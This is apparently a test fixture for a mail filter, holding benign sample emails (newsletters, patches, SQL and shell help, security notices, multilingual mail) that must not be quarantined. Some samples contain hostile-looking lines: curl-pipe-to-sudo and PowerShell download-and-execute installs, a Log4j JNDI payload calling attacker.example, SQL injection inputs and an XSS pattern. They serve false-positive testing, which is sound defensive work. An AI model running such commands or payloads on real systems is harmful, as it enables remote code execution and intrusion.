"""Ordinary mails, all written for this corpus: none may reach the quarantine score."""

# ruff: noqa: E501, RUF001 - lines and alphabets are as mail has them

from __future__ import annotations

from tests.policy.corpus.building import PDF, PNG, mail, zipped

NEWSLETTER = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" /><title>Autumn at the bakery</title>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
<style type="text/css">
  @media only screen and (max-width:600px) { .col { width:100% !important; display:block } }
  v\\:* { behavior:url(#default#VML); display:inline-block }
  a { color:#b5541c; text-decoration:none } .hide { display:none; mso-hide:all }
</style></head>
<body style="margin:0;padding:0;background-color:#f7f1ea">
<div style="display:none;font-size:1px;max-height:0;overflow:hidden">Pumpkin bread is back&nbsp;&zwnj;&nbsp;&zwnj;</div>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="font-size:0">
<!--[if mso]><table width="600"><tr><td width="300"><![endif]-->
<div class="col" style="display:inline-block;width:300px;font-size:15px;font-family:Georgia,serif">
<h1 style="font-size:26px">Bread with pumpkin</h1><p>Dear customers, our ovens are warm again. Order
<a href="https://click.mailer.example/t/8f3a?u=4711&amp;c=22" target="_blank">in our shop</a> until Friday.</p></div>
<!--[if mso]></td></tr></table><![endif]-->
<a href="https://click.mailer.example/t/99"><img src="https://img.bakery.example/loaf.jpg" width="280" alt="A loaf" border="0"></a>
</td></tr></table>
<p style="font-size:11px">You get this because you subscribed.
<a href="https://click.mailer.example/unsub?x=1">Unsubscribe</a> | <a href="https://click.mailer.example/t/1">www.bakery.example</a></p>
<img src="https://track.mailer.example/o.gif?id=4711" width="1" height="1" alt="" style="display:none">
</body></html>"""

CALENDAR = """BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:-//Example//Calendar 1.0//EN
VERSION:2.0
BEGIN:VEVENT
UID:4711@example.org
DTSTART:20261124T090000Z
DTEND:20261124T100000Z
SUMMARY:Planning; second half of the year
ORGANIZER;CN=Anna Weber:mailto:anna@example.org
ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:team@example.net
DESCRIPTION:Agenda\\n1. Budget\\n2. Subject: what comes next\\nJoin: https://meet.example.org/abc?pwd=x1
END:VEVENT
END:VCALENDAR
"""

PATCH = """From 3f1c2a9e0b7d4c55aa0e1f2d3c4b5a6978877665 Mon Sep 17 00:00:00 2001
From: Anna Weber <anna@example.org>
Date: Sat, 21 Nov 2026 09:00:00 +0000
Subject: [PATCH v2 1/3] db: quote the names of tables

Names with a "-" broke the clean-up.
---
 db/cleanup.py | 6 +++---
 1 file changed, 3 insertions(+), 3 deletions(-)

diff --git a/db/cleanup.py b/db/cleanup.py
--- a/db/cleanup.py
+++ b/db/cleanup.py
@@ -10,7 +10,7 @@ def clean(connection, table):
-    connection.execute("DELETE FROM " + table + " WHERE age > 30;")
+    connection.execute(f'DELETE FROM "{table}" WHERE age > 30;')
+    connection.execute("DROP TABLE IF EXISTS old_names; -- left by 0.3")
     subprocess.run(["sh", "-c", "rm -rf /tmp/cleanup && mkdir /tmp/cleanup"])
--\x20
2.43.0
"""

SQL_HELP = """Hi all,

the report is slow because of this one:

    SELECT u.name, COUNT(o.id) AS orders
      FROM users u LEFT JOIN orders o ON o.user_id = u.id
     WHERE u.country = 'DE' AND o.total > 100 OR u.is_vip = 1
     GROUP BY u.name HAVING COUNT(o.id) > 3
     UNION ALL
    SELECT name, 0 FROM archived_users WHERE name = 'O''Brien';

After CREATE INDEX orders_user ON orders (user_id); it takes 40 ms. You find the columns with
SELECT column_name FROM information_schema.columns WHERE table_name = 'orders';

    INSERT INTO settings VALUES ('theme', 'dark'); -- the default
    UPDATE settings SET value = 'light' WHERE name = 'theme';

Anna
"""

SHELL_HELP = """To set the test machine up again:

    curl -fsSL https://get.tool.example/install.sh | sudo bash
    export PATH="$HOME/bin:$PATH"; echo $(id -u) `hostname`
    rm -rf build/ && mkdir build && cd build && cmake .. && make -j4
    for f in *.log; do gzip "$f"; done
    ssh deploy@192.168.10.7 'sudo systemctl restart app; sleep 5; systemctl status app'
    docker run --rm -v $(pwd):/src node:22 npm ci

On Windows: Set-ExecutionPolicy Bypass -Scope Process; iex ((New-Object System.Net.WebClient).DownloadString('https://packages.tool.example/install.ps1'))
The dashboard is at http://192.168.10.7:3000/ then, or http://127.0.0.1:8080 through the tunnel.
"""

JAVASCRIPT_HELP = """Review of the login page

The handler should not build HTML by hand:

    <script>
      document.getElementById('user').innerHTML = location.hash.slice(1);
    </script>

Better: element.textContent = name. And please no eval(code) and no onclick="go()" attributes; the
content security policy forbids "javascript:" links anyway. {{ user.name }} in the template is fine.
In the C part: if (open_file("x")) { sleep(1); } and printf("%s", name);
"""

LOG4J_NOTICE = """Security notice 2026-11

Servers that log what visitors send may still have an old log library. A visitor who sends
${jndi:ldap://attacker.example/a} makes it load a class. Update to 2.17.1 or later.
The bulletin also covers SQL injection (inputs such as ' OR 1=1) and <script> tags in comments.
"""

CODE_REVIEW_HTML = """<html><body><p><b>Ben Koch</b> commented on this pull request.</p>
<p><a href="https://code.example.com/relay/app/pull/12#discussion_r99">src/db.py</a></p>
<pre style="color:#555">&gt; +    cursor.execute("SELECT * FROM users WHERE name = '%s'" % name)</pre>
<p>Use parameters here: with <code>x' OR 'a</code> this returns everybody.</p>
<p>Reply to this email directly, <a href="https://code.example.com/relay/app/pull/12">view it on the web</a>,
or <a href="https://code.example.com/notifications/unsubscribe/AAB3">unsubscribe</a>.
<img src="https://code.example.com/notifications/beacon/AAB3.gif" height="1" width="1" alt="" /></p>
<script type="application/ld+json">[{"@context":"http://schema.org","@type":"EmailMessage",
"potentialAction":{"@type":"ViewAction","target":"https://code.example.com/relay/app/pull/12"}}]</script>
</body></html>"""

OLD_NEWSLETTER = """<html><head><title>Club news</title>
<style>#wrap{width:expression(document.body.clientWidth > 620 ? "600px" : "auto")}</style>
<script language="JavaScript">function openMap(){ return false; }</script></head>
<body onload="openMap()"><table border=0><tr><td onmouseover="this.bgColor='#eeeeee'" onmouseout="this.bgColor='#ffffff'">
<a href="javascript:void(0)" onclick="return false">Menu</a> <a href="#top">Top</a>
<a href="http://www.club.example/news.html">The summer fair</a> was a success, see the pictures.
</td></tr></table></body></html>"""

SURVEY = """<html><body><p>How was your stay?</p>
<form action="https://survey.hotel.example/answer" method="post"><input type="hidden" name="id" value="4711">
<input type="radio" name="stars" value="5"> 5 <input type="radio" name="stars" value="1"> 1
<input type="submit" value="Send"></form></body></html>"""

OUTLOOK = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Word 15">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]--><style><!--
 p.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif}
--></style></head><body lang=DE link="#0563C1"><div class=WordSection1>
<p class=MsoNormal>Hallo Ben,<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>anbei die Zahlen. Die Anmeldung geht wie immer &uuml;ber
<a href="https://intranet.example.org/anmeldung">https://intranet.example.org/anmeldung</a>.</p>
<p class=MsoNormal><b>Von:</b> Ben Koch &lt;ben@example.net&gt;<br><b>Betreff:</b> AW: Zahlen</p></div></body></html>"""

RECEIPT = """<html><body><p>Thank you for your order 4711.</p><table><tr><td>1 x Lamp</td><td>39,00&nbsp;&euro;</td></tr></table>
<p>Pay at <a href="https://pay.lamps.example/i/4711">https://www.lamps.example/pay/4711</a> until 30 November.
Your account: <a href="https://www.lamps.example/account">www.lamps.example/account</a></p></body></html>"""

_EMBEDDED = '<html><body><p>Our talk:</p><iframe width="560" height="315" src="https://video.example/embed/x1"></iframe></body></html>'
_DIGEST = "\n".join(
    f"Message: {n}\nDate: Sat, 21 Nov 2026 0{n}:00:00 +0000\nFrom: a{n} at example.org\nSubject: [list] Question {n}\n\n"
    f"How do I set option {n}?\n\n------------------------------\n"
    for n in range(1, 8)
)

ORDINARY: dict[str, bytes] = {
    "two lines": mail("Lunch?", "Shall we meet at noon?\n\nAnna\n"),
    "newsletter": mail(
        "Bread with pumpkin",
        "Bread with pumpkin is back.\n",
        NEWSLETTER,
        sender="Bakery <news@bakery.example>",
    ),
    "newsletter, HTML alone": mail("Bread", html=NEWSLETTER, sender="Bakery <news@bakery.example>"),
    "old newsletter with scripts": mail("Club news", html=OLD_NEWSLETTER),
    "survey with a form": mail("Your stay", html=SURVEY, sender="hotel@hotel.example"),
    "embedded video": mail("Our talk", html=_EMBEDDED),
    "Outlook with conditional comments": mail(
        "AW: Zahlen", "Hallo Ben,\nanbei die Zahlen.\n", OUTLOOK
    ),
    "receipt with a counted link": mail(
        "Your order 4711", html=RECEIPT, sender="Lamps <shop@lamps.example>"
    ),
    "invoice with PDF": mail(
        "Rechnung 2026-11",
        "Guten Tag,\nanbei unsere Rechnung.\n",
        attachments=(("Rechnung-2026-11.pdf", "application/pdf", PDF),),
    ),
    "several attachments": mail(
        "Fotos",
        "Von gestern.\n",
        attachments=(
            ("a.png", "image/png", PNG),
            ("b c.png", "image/png", PNG),
            ("Grüße.zip", "application/zip", zipped("Bilder/a.png", "Bilder/b.png")),
        ),
    ),
    "spreadsheet": mail(
        "Numbers",
        "See the sheet.\n",
        attachments=(
            (
                "numbers.xlsx",
                "application/vnd.ms-excel",
                zipped("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"),
            ),
        ),
    ),
    "spreadsheet with macros": mail(
        "Planning tool",
        "With the macros that we agreed on.\n",
        attachments=(
            (
                "plan.xlsm",
                "application/vnd.ms-excel",
                zipped("xl/workbook.xml", "xl/vbaProject.bin"),
            ),
        ),
    ),
    "encrypted archive, password by phone": mail(
        "Contract",
        "The archive is encrypted, I will tell you the password by phone.\n",
        attachments=(
            ("contract.zip", "application/zip", zipped("contract.pdf", is_encrypted=True)),
        ),
    ),
    "calendar invitation": mail(
        "Planning",
        "Please join.\n",
        attachments=(("invite.ics", "text/calendar", CALENDAR.encode()),),
    ),
    "calendar as text": mail("Invitation: Planning", CALENDAR),
    "git patch": mail("[PATCH v2 1/3] db: quote the names of tables", PATCH),
    "git patch attached": mail(
        "Patch", "As attached.\n", attachments=(("0001-db.patch", "text/x-patch", PATCH.encode()),)
    ),
    "SQL help": mail("Slow report: SELECT ... FROM orders", SQL_HELP),
    "SQL dump": mail(
        "Dump",
        "INSERT INTO t VALUES ('a; b'), ('c');\nDROP TABLE t2;\n-- done\nCREATE TABLE t3 (id int);\n"
        * 20,
    ),
    "shell help": mail("How to set up the test machine", SHELL_HELP),
    "JavaScript review": mail("Re: login page", JAVASCRIPT_HELP),
    "security notice": mail("Security notice 2026-11", LOG4J_NOTICE),
    "code review": mail(
        "Re: [relay/app] Quote names (PR #12)",
        "Use parameters here.\n",
        CODE_REVIEW_HTML,
        sender="Ben Koch <notifications@code.example.com>",
        headers=(("List-ID", "relay/app <app.relay.code.example.com>"),),
    ),
    "failed build": mail(
        "Build #512 failed: app (main)",
        "E   AssertionError: assert 1 == 2\nE    +  where 1 = f('x')\nfailed: sh -c 'make test | tee log; exit ${PIPESTATUS[0]}'\nhttps://ci.example.com/app/512\n",
    ),
    "cron report": mail(
        "Cron <root@db1> /usr/local/bin/backup && echo done",
        "/etc/cron.daily/logrotate:\nerror: stat of /var/log/x failed: No such file\n2026-11-21 03:00 | 12 files | ok\n",
    ),
    "monitoring alert": mail(
        "[ALERT] db1: load > 8 (now 9.3)",
        "Host: db1 (10.0.0.7)\nhttp://10.0.0.20/graphs/db1\nTop: postgres: SELECT waiting\n",
    ),
    "stack trace": mail(
        "Exception in worker",
        'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\n    eval(compile(code, name, "exec"))\nValueError: bad\nCaused by: java.lang.RuntimeException: Runtime.getRuntime().exec failed\n',
    ),
    "PHP question": mail(
        "Frage zu PHP",
        "<?php\n$name = htmlspecialchars($_POST['name']);\necho \"Hallo $name\";\n$rows = $db->query('SELECT id FROM users');\n?>\nWarum kommt das leer?\n",
    ),
    "template question": mail(
        "Jinja question",
        "In {% for x in items %}{{ x.name|e }}{% endfor %} and ${total} in the shell, #{name} in Ruby:\nwhich is escaped? And {{ 7 * price }}?\n",
    ),
    "PowerShell question": mail(
        "Skript",
        "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object Name\npowershell -ExecutionPolicy Bypass -File C:\\tools\\check.ps1\n",
    ),
    "digest": mail("list Digest, Vol 12, Issue 3", _DIGEST, sender="list-request@example.org"),
    "list rewrites the sender": mail(
        "[team] Hello",
        "Hi!\n",
        sender='"ben@example.net via team" <team@lists.example.org>',
        headers=(("Sender", "team@lists.example.org"), ("Reply-To", "ben@example.net")),
    ),
    "out of office": mail(
        "Abwesenheit: Re: Zahlen",
        "Ich bin bis Montag nicht da.\n",
        headers=(("Auto-Submitted", "auto-replied"),),
    ),
    "German": mail(
        "Grüße aus Köln",
        "Liebe Kolleginnen und Kollegen,\n\nschöne Grüße – „bis bald“!\nÖffnungszeiten: 9–17 Uhr, Straße 5.\n",
    ),
    "Russian": mail(
        "Встреча завтра",
        "Привет, команда!\nВстречаемся завтра в 10:00. Пароль от переговорной не нужен.\nhttps://пример.испытание/встреча\n",
    ),
    "Russian HTML": mail(
        "Новости",
        html='<p>Читайте на <a href="https://новости.пример/лента">новости.пример</a> и <a href="https://xn--e1afmkfd.xn--80akhbyknj4f/">пример.испытание</a></p>',
    ),
    "Greek": mail(
        "Καλημέρα",
        "Καλημέρα σε όλους, τα λέμε αύριο.\n",
        '<p>Δείτε <a href="https://παράδειγμα.δοκιμή/">παράδειγμα.δοκιμή</a></p>',
    ),
    "Chinese": mail("会议通知", "各位同事：\n\n明天上午十点开会，请准时参加。\n谢谢！\n"),
    "Japanese": mail(
        "打ち合わせの件",
        "お世話になっております。\n明日の打ち合わせは10時からです。\nよろしくお願いいたします。\n",
    ),
    "Korean and emoji": mail("회의 안내 🎉", "안녕하세요 👋🏽 내일 오전 10시에 뵙겠습니다. 👩‍💻\n"),
    "Hebrew and Arabic": mail("שלום", "שלום לכולם, נתראה מחר.\nمرحبا بالجميع\u200f، نلتقي غدا.\n"),
    "German domain with umlaut": mail(
        "Bücher",
        html='<p><a href="https://www.bücher.example/neu">www.bücher.example</a> <a href="https://xn--bcher-kva.example/">Bücher</a></p>',
    ),
    "release with downloads": mail(
        "tool 2.1 is out",
        "Changes: faster.\nhttps://downloads.tool.example/2.1/tool-setup.exe\nhttps://downloads.tool.example/2.1/tool.msi\nhttps://github.example/tool/tool.jar\n",
    ),
    "repository addresses": mail(
        "Move to the new host",
        "git clone https://git@code.example.com/relay/app.git\npip install git+https://oauth2:TOKEN@code.example.com/x/y.git\nscp file deploy@build.example.com:/srv/\n",
    ),
    "password reset": mail(
        "Reset your password",
        "Somebody asked to reset the password of your account.\nIf it was you: https://www.shop.example/reset?token=8f3a\n",
        '<p>If it was you: <a href="https://www.shop.example/reset?token=8f3a">https://www.shop.example/reset</a></p>',
        sender="Shop <no-reply@shop.example>",
    ),
    "one-time code": mail(
        "Your code: 482913",
        "Your sign-in code is 482913. It is valid for 10 minutes.\n",
        sender="no-reply@login.bank.example",
    ),
    "keyboard hint": mail(
        "Tipp", "Mit Strg+C und Strg+V kopieren, mit Windows+E den Explorer öffnen.\n"
    ),
    "XML snippet": mail(
        "Config",
        '<?xml version="1.0"?>\n<!DOCTYPE note [ <!ENTITY company "Example Ltd"> ]>\n<note>&company;</note>\n',
    ),
    "router manual": mail(
        "Router",
        "Open http://192.168.1.1/ and log in.\n",
        '<p>Open <a href="http://192.168.1.1/">http://192.168.1.1/</a>.</p>',
    ),
    "forwarded mail": mail(
        "Fwd: Zahlen",
        "---------- Forwarded message ---------\nFrom: Ben Koch <ben@example.net>\nTo: Anna\nCc: team@example.net\nSubject: Zahlen\n\nanbei.\n",
    ),
    "page with counters": mail(
        "The article you asked for",
        html="""<html><body onload="window.focus()"><script>
(function(w,l){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime()});})(window,'dataLayer');</script>
<script type="text/javascript">document.write("<script src='//stats.example/ga.js'></scr" + "ipt>");</script>
<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X1" height="0" width="0" style="display:none"></iframe></noscript>
<a href="http://paper.example/a" onclick="window.open(this.href); return false" onmouseover="window.status='read'; return true">Read on</a>
<img src="http://paper.example/a.png" onerror="this.style.display='none'" alt="prompt delivery"></body></html>""",
    ),
    "links that a filter rewrote": mail(
        "FW: Please confirm your address",
        html='<p>Confirm: <a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Faccount.shop.example%2Fverify&amp;data=05">https://account.shop.example/verify</a></p>',
    ),
    "confirmation through a mail service": mail(
        "Confirm your address",
        html='<p><a href="https://u123.ct.sendgrid.net/ls/click?upn=8f3a">https://app.shop.example/verify?token=1</a></p>',
        sender="Shop <no-reply@shop.example>",
    ),
    "installation inside the house": mail(
        "New hosts",
        "curl http://10.20.0.5/setup.sh | sudo sh\nThen http://192.168.7.1/tools/setup.exe on Windows.\n",
    ),
    "support explains the Run dialog": mail(
        "Re: printer",
        "Drücken Sie Windows + R, geben Sie control printers ein. Den Namen mit Strg + V einfügen.\n",
    ),
    "file names with signs": mail(
        "Slides",
        "As promised.\n",
        attachments=(("Rest & sleep tips; part 2 (final).pdf", "application/pdf", PDF),),
    ),
    "saved page": mail(
        "The page",
        "As a file.\n",
        attachments=(
            ("page.html", "text/html", b"<html><body><p>Saved <b>page</b></p></body></html>"),
        ),
    ),
}
